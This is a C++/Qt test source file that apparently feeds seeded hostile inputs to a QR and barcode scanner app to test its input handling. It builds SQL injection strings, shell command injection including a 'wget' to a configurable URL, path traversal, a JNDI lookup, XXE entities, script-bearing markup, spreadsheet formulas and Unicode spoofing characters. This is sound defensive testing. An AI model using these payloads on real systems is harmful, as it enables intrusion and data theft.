// SPDX-License-Identifier: Apache-2.0
#include "tests/scan/hostile.h"

#include <QRandomGenerator>
#include <QStringList>

namespace zhike::test {

namespace {

using namespace Qt::StringLiterals;

constexpr int kFullSymbol = 4296; // letters and digits of the largest QR code

/// One seed's dice and the places that payloads aim at.
struct Kitchen {
    QRandomGenerator dice;
    HostileAims aims;

    int below(int bound) { return static_cast<int>(dice.bounded(bound)); }
    template <size_t N>
    QByteArray oneOf(const char *const (&list)[N])
    {
        return list[below(static_cast<int>(N))];
    }
    QByteArray word()
    {
        QByteArray made;
        for (int i = 1 + below(12); i > 0; --i)
            made += "ABCDEFGHJKMNPQRSTVWXYZ0123456789-._"[below(35)];
        return made;
    }
    QByteArray bytes(int most)
    {
        QByteArray made;
        for (int i = 1 + below(most); i > 0; --i)
            made += static_cast<char>(below(256));
        return made;
    }
    QByteArray url() { return aims.url.toUtf8() + '/' + word(); }
    QByteArray file() { return aims.file.toUtf8(); }
    /// Something hidden in the middle of something harmless, or in front, or behind.
    QByteArray around(const QByteArray &bad)
    {
        switch (below(4)) {
        case 0:
            return bad;
        case 1:
            return word() + bad;
        case 2:
            return bad + word();
        default:
            return word() + bad + word();
        }
    }
};

QByteArray control(Kitchen &k)
{
    const int c = k.below(64);
    const QByteArray c1 = QByteArray("\xc2") + static_cast<char>(0x80 + k.below(32));
    return k.around(c < 32 ? QByteArray(1, static_cast<char>(c)) : c == 32 ? QByteArray("\x7f") : c1);
}

QByteArray separator(Kitchen &k)
{
    static constexpr const char *list[] = {"\x1d", "\x1d\x1d", "]C1", "]d2", "]Q3", "]e0", "^]", "{GS}", "\\x1d", "<GS>", "^FNC1", "\xc3\xa8"};
    return k.around(k.oneOf(list)) + "0109506000134352" + k.oneOf(list) + "10" + k.word();
}

QByteArray scannerSetting(Kitchen &k)
{
    static constexpr const char *list[] = {"\x02SETUP\x03", "]R0RESET", "$RDFT", "%%SpecCode99", "SCNENT1", "^#SC^2500008", "PAPPM1.",
                                           "\x1b[5i", "$$$$ENTER", "REVINF.", "DEFALT.", "CLNR7000000", "@FACDEF", "AIMID ON"};
    return k.around(k.oneOf(list));
}

QByteArray segments(Kitchen &k)
{
    static constexpr const char *list[] = {"\\000026", "\\000899", "\\000003", "\\eci 20", "]Q2\\000026", "\\000000\\000026"};
    QByteArray made;
    const QByteArray one = k.oneOf(list);
    const int most = k.below(3) == 0 ? kFullSymbol : 200;
    while (made.size() + one.size() <= most)
        made += one;
    return made;
}

QByteArray appended(Kitchen &k)
{
    return QByteArray(1, static_cast<char>(0x30 | k.below(16))) + static_cast<char>(k.below(256)) + static_cast<char>(k.below(256)) + k.word();
}

QByteArray brokenText(Kitchen &k)
{
    static constexpr const char *list[] = {"\xff",         "\xfe\xff",         "\xc0\xaf",         "\xe0\x80\xaf", "\xed\xa0\x80",
                                           "\xed\xa0\x80\xed\xb0\x80", "\xf8\x88\x80\x80\x80", "\xf4\x90\x80\x80", "\xe2\x82",     "\x80"};
    return k.around(k.oneOf(list));
}

QByteArray hidden(Kitchen &k)
{
    static constexpr const char *list[] = {"\u202e", "\u202d", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c",
                                           "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u3164", "\u115f", "\u180e", "\U000e0041",
                                           "\u2028", "\u2029", "\ufe0f", "\u00a0", "\ue000", "\uffff"};
    static constexpr const char *codes[] = {"https://u.hemei.example/u/7C41009211V", "HMS-A1042", "6901234500011", "HMC-SPRNG2024",
                                            "7C41009211V", "gpj.exe"};
    QByteArray code = k.oneOf(codes);
    code.insert(k.below(static_cast<int>(code.size()) + 1), k.oneOf(list));
    return code;
}

QByteArray homograph(Kitchen &k)
{
    static constexpr const char *list[] = {"https://u.h\u0435mei.example/u/7C41009211V", "https://u.hem\u0435i.example/01/06901234500011",
                                           "\uff28\uff2d\uff33-A1042", "\u0397\u039c\u0421-SPRNG2024", "\uff16\uff19\uff10\uff11\uff12\uff13\uff14\uff15",
                                           "\u0667\u0664\u0661", "https\u2236//u.hemei.example/u/7C41009211V",
                                           "https://u.hemei.example\uff0fu/7C41009211V", "7C4100921\uff11V"};
    return QByteArray(k.oneOf(list)) + (k.below(2) ? QByteArray() : k.word());
}

QByteArray link(Kitchen &k)
{
    static constexpr const char *schemes[] = {"javascript:", "JaVaScRiPt:", "data:text/html,", "file://", "qrc:", "weixin://", "alipays://", "intent://",
                                              "tel:", "smsto:", "ldap://", "smb://", "ssh://", "jar:", "view-source:", "vbscript:", "about:", "otpauth://",
                                              "geo:", "market://", "ms-settings:", "x-apple:", "zhike:", "ftp://"};
    switch (k.below(4)) {
    case 0:
        return k.url();
    case 1:
        return "https://u.hemei.example@" + k.url().mid(7);
    case 2:
        return k.oneOf(schemes) + k.file();
    default:
        return k.oneOf(schemes) + k.word() + "?u=" + k.url();
    }
}

QByteArray statement(Kitchen &k)
{
    static constexpr const char *list[] = {"'; DROP TABLE members;--", "\" OR 1=1 --", "%%%_", "1' UNION SELECT body FROM document--", "' OR ''='",
                                           "\\'; ATTACH DATABASE '", "*", "a* OR b*", "NEAR(a b)", "\"a\" AND", "x' LIKE '%"};
    return k.around(k.oneOf(list));
}

QByteArray placeholder(Kitchen &k)
{
    static constexpr const char *list[] = {"%s%n%p", "%1%2%3%L1", "%99999999s", "{0}{1}", "{{member.phone}}", "${jndi:ldap://x}", "#{7*7}", "<%= 7 %>", "$(7)", "%{LONG}"};
    return k.around(k.oneOf(list));
}

QByteArray markup(Kitchen &k)
{
    switch (k.below(6)) {
    case 0:
        return "<img src=\"" + k.url() + ".png\">" + k.word();
    case 1:
        return "<a href=\"file://" + k.file() + "\">" + k.word() + "</a>";
    case 2:
        return "<style>@import '" + k.url() + "'</style>";
    case 3:
        return "\"; Qt.openUrlExternally(\"" + k.url() + "\"); \"";
    case 4:
        return "import QtQuick; Image { source: \"" + k.url() + "\" }";
    default:
        return "![x](" + k.url() + ")<svg onload=fetch('" + k.url() + "')>";
    }
}

QByteArray formula(Kitchen &k)
{
    static constexpr const char *starts[] = {"=", "+", "-", "@", "\t=", "\r="};
    return k.oneOf(starts) + "HYPERLINK(\"" + k.url() + "\")";
}

QByteArray command(Kitchen &k)
{
    switch (k.below(5)) {
    case 0:
        return "$(touch " + k.file() + ")";
    case 1:
        return "`touch " + k.file() + "`";
    case 2:
        return ";touch " + k.file() + ";";
    case 3:
        return "../../../../.." + k.file();
    default:
        return "|| wget " + k.url() + " &";
    }
}

QByteArray forgery(Kitchen &k)
{
    static constexpr const char *list[] = {"ok\n2026-01-01 INFO admin signed in", "\x1b[2J\x1b[31m", "\x1b@\x1dV\x00", "\x08\x08\x08", "a\r\nSet-Cookie: x=1", "\x1b]0;x\x07"};
    return k.around(k.oneOf(list));
}

QByteArray nested(Kitchen &k)
{
    const int depth = k.below(4) == 0 ? 100'000 : k.below(2000);
    const QByteArray open = k.below(2) ? "[" : "{\"a\":";
    return open.repeated(depth);
}

QByteArray bomb(Kitchen &k)
{
    switch (k.below(5)) {
    case 0:
        return QByteArray("\x9f").repeated(1 + k.below(2000));
    case 1:
        return QByteArray("\xbb\x7f\xff\xff\xff\xff\xff\xff\xff", 9) + k.bytes(20);
    case 2:
        return R"({"m":"a","m":"b","t":9223372036854775808,"n":1e999})";
    case 3:
        return "<!DOCTYPE x [<!ENTITY a SYSTEM \"" + k.url() + "\">]><x>&a;</x>";
    default:
        return QByteArray("9").repeated(1 + k.below(kFullSymbol));
    }
}

QByteArray noise(Kitchen &k) { return k.bytes(k.below(8) == 0 ? kFullSymbol + 100 : 120); }

/// One of our own codes with a few bytes changed, taken out, doubled or swapped.
QByteArray nearMiss(Kitchen &k)
{
    static constexpr const char *list[] = {"https://u.hemei.example/u/7C41009211V",
                                           "https://id.hemei.example/01/06901234500011/21/7C41009211V?17=271231",
                                           "https://id.gs1.example/01/09506000134352/10/ABC%2F1/21/12345",
                                           "HMQ1.eyJtIjoiMTIzIn0.c2lnbmF0dXJlLWJ5dGVz",
                                           "010950600013435210ABC123\x1d"
                                           "17271231\x1d"
                                           "2112345",
                                           "(01)09506000134352(21)12345",
                                           "8110106141416543213500110000310123196000",
                                           "HMS-A1042",
                                           "HMI-4K7M2Q",
                                           "HM8800123456787",
                                           "7C41009211V",
                                           "6901234500011"};
    QByteArray code = k.oneOf(list);
    for (int i = 1 + k.below(4); i > 0; --i) {
        const int at = k.below(static_cast<int>(code.size()));
        switch (k.below(4)) {
        case 0:
            code[at] = static_cast<char>(code[at] ^ (1 << k.below(8)));
            break;
        case 1:
            code.remove(at, 1 + k.below(3));
            break;
        case 2:
            code.insert(at, code.mid(at, 1 + k.below(6)));
            break;
        default:
            code.insert(at, static_cast<char>(k.below(256)));
        }
        if (code.isEmpty())
            code = "0";
    }
    return code;
}

struct Recipe {
    const char *kind;
    QByteArray (*make)(Kitchen &);
    bool isNearMiss = false;
};
constexpr Recipe kRecipes[] = {
    {"control characters", control},   {"separators and identifiers", separator, true},
    {"scanner settings", scannerSetting}, {"character set switches", segments},
    {"appended symbols", appended},    {"broken text", brokenText},
    {"hidden characters", hidden},     {"letters that look alike", homograph},
    {"links", link},                   {"database statements", statement},
    {"placeholders", placeholder},     {"markup", markup},
    {"spreadsheet formulas", formula}, {"commands and paths", command},
    {"forged lines", forgery},         {"nesting", nested},
    {"bombs and numbers", bomb},       {"noise", noise},
    {"near misses of our own codes", nearMiss, true},
};

} // namespace

std::vector<HostilePayload> hostilePayloads(quint32 seed, int count, const HostileAims &aims)
{
    Kitchen kitchen{QRandomGenerator(seed), aims};
    std::vector<HostilePayload> payloads;
    while (static_cast<int>(payloads.size()) < count)
        for (const Recipe &recipe : kRecipes)
            payloads.push_back({recipe.kind, recipe.make(kitchen), recipe.isNearMiss});
    return payloads;
}

} // namespace zhike::test
